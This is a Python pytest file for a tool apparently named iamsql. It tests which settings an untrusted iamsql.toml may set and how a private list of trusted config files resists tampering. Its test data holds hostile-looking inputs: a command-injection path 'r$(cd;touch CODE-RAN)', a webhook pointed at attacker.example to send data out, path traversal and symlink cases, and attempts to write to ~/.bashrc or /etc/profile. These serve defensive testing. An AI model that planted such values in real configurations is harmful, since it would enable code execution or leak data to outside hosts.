"""Which settings an iamsql.toml that nobody named may set, and the list of the files that the user trusts."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from iamsql.catalog.settings import trust
from iamsql.catalog.settings.declarations import ANY, INSIDE, SETTINGS, TRUSTED, Setting
from iamsql.catalog.settings.option import option
from iamsql.catalog.settings.read import Configuration, read_configuration
from iamsql.model import IamsqlError

# What a file of somebody else may set: what is read, and how it is shown. A setting that chooses roles or credentials, that
# writes or deletes, or that sends something is not in this list.
HARMLESS = """
queries timeout memory csv_safe jobs
sync.accounts sync.skip_accounts sync.ous sync.skip_ous sync.states sync.regions sync.events sync.no_reuse sync.days
sync.start_date sync.end_date sync.tables sync.for sync.fresh sync.trust_report sync.transport sync.max_calls sync.strict
check.benchmarks check.severity check.ocsf_version check.fail_on report.benchmarks report.trend
notify.on notify.severity notify.benchmarks notify.limit run.restore run.strict run.fail_on
""".split()


@pytest.fixture(autouse=True)
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Work in a folder of somebody else, with an empty list of trusted files."""
    monkeypatch.setattr(trust, "user_data_dir", lambda *_, **__: str(tmp_path / "data"))
    (tmp_path / "theirs").mkdir()
    monkeypatch.chdir(tmp_path / "theirs")
    return tmp_path


def read(text: str = "[notify]\nto = ['slack']\n") -> Configuration:
    Path("iamsql.toml").write_text(text)
    Path("iamsql.toml").chmod(0o600)
    return read_configuration(None)


def test_each_setting_says_whether_a_file_of_others_may_set_it() -> None:
    assert {setting.trust for setting in SETTINGS} == {ANY, INSIDE, TRUSTED}
    assert sorted(setting.name for setting in SETTINGS if setting.trust == ANY) == sorted(HARMLESS)
    assert [setting.name for setting in SETTINGS if setting.trust == INSIDE] == ["runs"]
    with pytest.raises(TypeError, match=r"sync\.new needs `trust`"):  # a new setting has to say it
        option("", "--new", help="New.", toml="sync.new")


@pytest.mark.parametrize("setting", SETTINGS, ids=lambda setting: setting.name)
@pytest.mark.parametrize("of_organization", [False, True])
def test_what_needs_trust_in_a_file_that_was_not_named(setting: Setting, of_organization: bool) -> None:
    value = '"/elsewhere"' if setting.trust == INSIDE else setting.example
    section = f"[{setting.section}]\n" if setting.section else ""
    if of_organization:
        if not setting.section and setting.key != "runs":
            return
        above = setting.section if setting.section not in ("", "sync") else ""
        section = f"[organization.prod{'.' if above else ''}{above}]\n"
    configuration = read(f"{section}{setting.key} = {value}\n")
    (key,) = [value.key for value in configuration.all_values()]
    assert trust.keys_to_trust(configuration) == ([] if setting.trust == ANY else [key])
    explicit = read_configuration(Path("iamsql.toml"))
    assert len([*explicit.all_values()]) == 1 and trust.keys_to_trust(explicit) == []


@pytest.mark.parametrize(
    ("path", "is_inside"),
    [
        ("runs", True), ("deep/runs", True), (".", True), ("r$(cd;touch CODE-RAN)", True), ("runs/../other", True),
        ("..", False), ("../runs", False), ("runs/../../x", False), ("/runs", False), ("~", False), ("~/runs", False),
        ("link", False), ("link/runs", False), ("file", True),
    ],
)  # fmt: skip
def test_a_runs_folder_inside_of_the_folder_needs_no_trust(here: Path, path: str, is_inside: bool) -> None:
    Path("link").symlink_to(here)
    configuration = read(f"runs = {json.dumps(path)}\n[organization.prod]\nruns = 'own'\n")
    assert trust.keys_to_trust(configuration) == ([] if is_inside else ["runs"])


def test_a_file_is_trusted_at_its_path_with_its_content(here: Path) -> None:
    configuration = read()
    assert not trust.is_trusted(configuration.file) and trust.trusted_files() == {}
    trust.trust(configuration.file)
    assert trust.is_trusted(configuration.file) and trust.is_trusted(read().file)
    assert trust.trusted_files() == {str(here.resolve() / "theirs/iamsql.toml"): configuration.file.digest}
    assert not trust.is_trusted(read("[notify]\nto = ['teams']\n").file)
    assert not trust.is_trusted(read(f"{'[notify]'}\nto = ['slack']\n\n").file)
    (here / "other").mkdir()
    os.chdir(here / "other")
    assert not trust.is_trusted(read().file)
    assert not trust.untrust(Path("iamsql.toml"))
    Path("../theirs/iamsql.toml").unlink()
    assert trust.untrust(Path("../theirs/iamsql.toml")) and trust.trusted_files() == {}


def test_the_digest_is_that_of_the_bytes_that_were_parsed() -> None:
    configuration = read()
    Path("iamsql.toml").write_text("[notify]\nto = ['webhook:https://attacker.example/']\n")
    trust.trust(configuration.file)
    assert trust.is_trusted(configuration.file) and not trust.is_trusted(read_configuration(None).file)
    crlf = read()
    Path("iamsql.toml").write_bytes(b"[notify]\r\nto = ['slack']\r\n")
    assert crlf.file.tree == (changed := read_configuration(None).file).tree and not trust.is_trusted(changed)


def test_the_list_is_private(here: Path) -> None:
    trust.trust(read().file)
    assert trust.store_path() == here / "data/trusted" and trust.store_path().stat().st_mode & 0o777 == 0o600
    assert trust.store_path().parent.stat().st_mode & 0o777 == 0o700


@pytest.mark.parametrize("attack", ["link", "group", "everybody", "folder", "owner", "pipe", "json", "list", "large"])
def test_a_list_of_others_is_refused(here: Path, monkeypatch: pytest.MonkeyPatch, attack: str) -> None:
    configuration = read()
    trust.trust(configuration.file)
    path = trust.store_path()
    content = path.read_bytes()
    if attack == "link":
        path.rename(here / "theirs/list")
        path.symlink_to(here / "theirs/list")
    elif attack == "pipe":
        path.unlink()
        os.mkfifo(path)
    elif attack == "owner":
        monkeypatch.setattr(os, "getuid", lambda: path.stat().st_uid + 1)
        if path.stat().st_uid == 0:  # root can change every file
            os.chown(path, 12345, -1)
    else:
        modes = {"group": 0o620, "everybody": 0o602}
        texts = {"json": b"{", "list": b"[]", "large": content + b" " * trust.MAX_STORE_BYTES}
        path.write_bytes(texts.get(attack, content))
        path.chmod(modes.get(attack, 0o600))
        path.parent.chmod(0o777 if attack == "folder" else 0o700)
    with pytest.raises(IamsqlError, match=r"The list of trusted files cannot be used: .*\nDelete .*--config FILE"):
        trust.is_trusted(configuration.file)
    with pytest.raises(IamsqlError, match="cannot be used"):
        trust.trust(configuration.file)


@pytest.mark.parametrize(
    ("key", "name", "message"),
    [
        ("summary", "~/.bashrc", "run.summary must be a file whose name ends in .json"),
        ("summary", "x.json.sh", "run.summary must be a file whose name ends in .json"),
        ("report", "/etc/profile", "run.report must be a file whose name ends in .html"),
        ("summary", "x.JSON", ""),
        ("report", "x.html", ""),
    ],
)
def test_a_trusted_file_names_files_with_the_suffix_of_their_format(key: str, name: str, message: str) -> None:
    if not message:
        assert read(f"[run]\n{key} = '{name}'\n").values("run")[key].value == name
        return
    for section in ("run", "organization.prod.run"):
        with pytest.raises(IamsqlError, match=message):
            read(f"[{section}]\n{key} = '{name}'\n")
